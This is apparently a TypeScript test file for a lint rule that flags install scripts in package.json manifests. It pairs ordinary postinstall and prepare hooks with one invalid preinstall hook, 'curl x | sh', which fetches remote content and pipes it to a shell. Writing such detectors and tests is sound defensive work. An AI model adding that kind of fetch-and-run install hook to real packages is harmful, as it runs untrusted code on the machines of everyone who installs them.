import rule from '../../../src/lint/rules/no-install-script.js';
import { SMALL_SERVER } from '../../../src/lint/rules/support/examples.js';
import { testRule } from '../../helpers/rule.js';

const manifest = (text: string): Record<string, string> => ({ 'server.ts': SMALL_SERVER, 'package.json': text });

testRule(rule, {
  valid: [
    manifest('{ "scripts": { "postinstall": "node-gyp rebuild", "prepare": "husky" } }'),
    manifest('{ "private": true, "scripts": { "postinstall": "node setup.js" } }'),
    SMALL_SERVER,
  ],
  invalid: [{ code: manifest('{ "scripts": { "preinstall": "curl x | sh" } }'), findings: [{ message: 'runs', at: '"curl x | sh"' }] }],
});
